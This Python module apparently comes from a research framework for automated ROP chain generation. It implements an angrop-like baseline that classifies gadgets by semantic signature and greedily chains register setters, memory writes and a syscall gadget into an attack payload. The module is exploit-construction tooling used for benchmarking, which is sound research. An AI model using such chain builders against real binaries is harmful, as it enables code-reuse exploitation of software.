"""Angrop-like baseline: semantic gadget signatures + greedy chaining.

Resilient to instruction substitution (it matches *semantics*, so an
obfuscated ``pop rdi``-equivalent still registers), but — per the
paper's analysis — it only accepts ret-terminated, precondition-free
gadgets matching its fixed signatures ("it only uses pop reg; ret to
assign a value to registers regardless of all other equivalent gadget
variants"), and it chains greedily with no backtracking, no conditional
gadgets, no direct-jump merging.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

from ..binfmt.image import BinaryImage
from ..isa.registers import Reg
from ..symex.executor import EndKind
from ..symex.expr import BVSym
from ..symex.state import stack_sym_offset
from ..gadgets.extract import ExtractionConfig
from ..gadgets.record import GadgetRecord
from ..pipeline import extract_pool
from ..planner.goals import ResolvedGoal
from ..planner.payload import FILLER_WORD, AttackPayload
from .common import BaselineTool

#: Gadgets longer than this do not match angrop's signatures.
_MAX_SIGNATURE_INSNS = 4


def _as_setters(gadget: GadgetRecord) -> List[Tuple[Reg, int]]:
    """Match the `set register from stack` signature.

    Requires: ret-terminated, no preconditions, constant stack delta,
    no memory side effects.  Every changed register whose final value
    is one payload word at a fixed offset counts as settable (angrop
    records the other clobbers; a clobber that breaks the chain shows
    up as a validation failure, matching its greedy behaviour).
    """
    if gadget.end is not EndKind.RET or gadget.pre_cond or gadget.stack_smashed:
        return []
    if gadget.num_insns > _MAX_SIGNATURE_INSNS or gadget.stack_delta is None:
        return []
    if gadget.has_side_memory_writes or gadget.conditional_jumps or gadget.merged_direct_jumps:
        return []
    out: List[Tuple[Reg, int]] = []
    for reg in gadget.clob_regs:
        if reg is Reg.RSP:
            continue
        post = gadget.post_regs[reg]
        if isinstance(post, BVSym):
            offset = stack_sym_offset(post.name)
            if offset is not None and 0 <= offset < (gadget.stack_delta - 8):
                out.append((reg, offset))
    return out


def _as_writer(gadget: GadgetRecord) -> Optional[Tuple[Reg, Reg]]:
    """Match the `mem[reg1] = reg2` signature."""
    if gadget.end is not EndKind.RET or gadget.pre_cond or gadget.stack_smashed:
        return None
    if gadget.num_insns > _MAX_SIGNATURE_INSNS or gadget.stack_delta is None:
        return None
    if gadget.conditional_jumps or gadget.merged_direct_jumps:
        return None
    side = [w for w in gadget.mem_writes if w.stack_offset is None and w.width == 8]
    if len(side) != 1 or len(gadget.mem_writes) != 1:
        return None
    write = side[0]
    if not isinstance(write.addr, BVSym) or not isinstance(write.value, BVSym):
        return None
    if not write.addr.name.endswith("0") or not write.value.name.endswith("0"):
        return None
    from ..isa.registers import reg_by_name

    return reg_by_name(write.addr.name[:-1]), reg_by_name(write.value.name[:-1])


def _as_syscall(gadget: GadgetRecord) -> bool:
    return (
        gadget.end is EndKind.SYSCALL
        and not gadget.pre_cond
        and not gadget.conditional_jumps
        and gadget.num_insns <= 2
    )


class AngropLike(BaselineTool):
    """Semantic signatures, greedy `set_regs`-style chaining."""

    name = "angrop"

    def __init__(self, extraction: Optional[ExtractionConfig] = None):
        self.extraction = extraction or ExtractionConfig(
            include_conditional=False, merge_direct_jumps=False
        )

    def find_gadgets(self, image: BinaryImage) -> List[GadgetRecord]:
        return extract_pool(image, self.extraction)

    def build_chains(
        self, image: BinaryImage, gadgets: List[GadgetRecord], resolved: ResolvedGoal
    ) -> List[AttackPayload]:
        setters: Dict[Reg, Tuple[GadgetRecord, int]] = {}
        writer: Optional[Tuple[GadgetRecord, Reg, Reg]] = None
        syscall_gadget: Optional[GadgetRecord] = None
        for g in gadgets:
            for reg, offset in _as_setters(g):
                best = setters.get(reg)
                # Prefer the shortest gadget with the fewest clobbers.
                key = (len(g.clob_regs), g.stack_delta)
                if best is None or key < (len(best[0].clob_regs), best[0].stack_delta):
                    setters[reg] = (g, offset)
            wr = _as_writer(g)
            if wr is not None and writer is None:
                writer = (g, wr[0], wr[1])
            if _as_syscall(g) and syscall_gadget is None:
                syscall_gadget = g
        if syscall_gadget is None:
            return []

        words: List[int] = []
        chain: List[GadgetRecord] = []

        def emit_setter(reg: Reg, value: int) -> bool:
            entry = setters.get(reg)
            if entry is None:
                return False
            gadget, offset = entry
            words.append(gadget.location)
            chain.append(gadget)
            block = [FILLER_WORD] * (gadget.stack_delta // 8 - 1)
            block[offset // 8] = value
            words.extend(block)
            return True

        # Greedy, fixed order — no conflict analysis (angrop's weakness:
        # if a later setter clobbers an earlier register, the chain just
        # fails validation).
        for mg in resolved.memory_goals:
            if writer is None:
                return []
            wgadget, addr_reg, val_reg = writer
            if addr_reg not in setters or val_reg not in setters or addr_reg == val_reg:
                return []
            for target_addr, word in mg.words():
                if not emit_setter(addr_reg, target_addr):
                    return []
                if not emit_setter(val_reg, word):
                    return []
                words.append(wgadget.location)
                chain.append(wgadget)
                words.extend([FILLER_WORD] * (wgadget.stack_delta // 8 - 1))
        for reg, value in resolved.reg_values.items():
            if not emit_setter(reg, value):
                return []
        words.append(syscall_gadget.location)
        chain.append(syscall_gadget)

        payload = AttackPayload(
            goal_name=resolved.goal.name,
            words=words,
            chain=chain,
            entry_address=words[0],
        )
        return [payload]
